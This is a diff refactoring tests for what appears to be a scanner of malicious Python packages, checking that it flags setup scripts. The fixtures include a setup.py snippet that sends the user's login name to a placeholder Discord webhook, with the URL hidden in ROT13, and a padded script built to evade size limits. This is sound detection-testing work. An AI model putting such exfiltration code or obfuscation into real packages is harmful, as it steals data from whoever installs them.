@@ -16,8 +16,7 @@ import codecs
 
 import pytest
 
-from tests.support.archives import pkg_info, sdist
-from tests.support.scan import judge
+from tests.support.scan import SETUP_CALL, judge_setup_script
 
 WEBHOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"
 
@@ -34,10 +33,8 @@ def test_a_webhook_spelled_in_rot13_is_read_as_the_webhook(spelled: str) -> None
         "import codecs, os, requests\n"
         f"HOOKS = [{spelled}]\n"
         "requests.post(HOOKS[0], json={'u': os.getlogin()})\n"
-        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
-    )
-    files = {"setup.py": setup, "PKG-INFO": pkg_info("demo"), "demo/__init__.py": "X = 1\n"}
-    rules, held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
+    ) + SETUP_CALL
+    rules, held = judge_setup_script(setup)
     assert rules.get("exfil-sink", 0) >= 6
     assert held
 
@@ -54,6 +51,5 @@ SETUP = (
 def test_a_padded_setup_script_is_read_whole() -> None:
     setup = PADDING + SETUP
     assert 256 * 1024 < len(setup) < 2 * 1024 * 1024
-    files = {"setup.py": setup, "PKG-INFO": pkg_info("demo"), "demo/__init__.py": "X = 1\n"}
-    rules, _held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
+    rules, _held = judge_setup_script(setup)
     assert "stealer-dependency" in rules
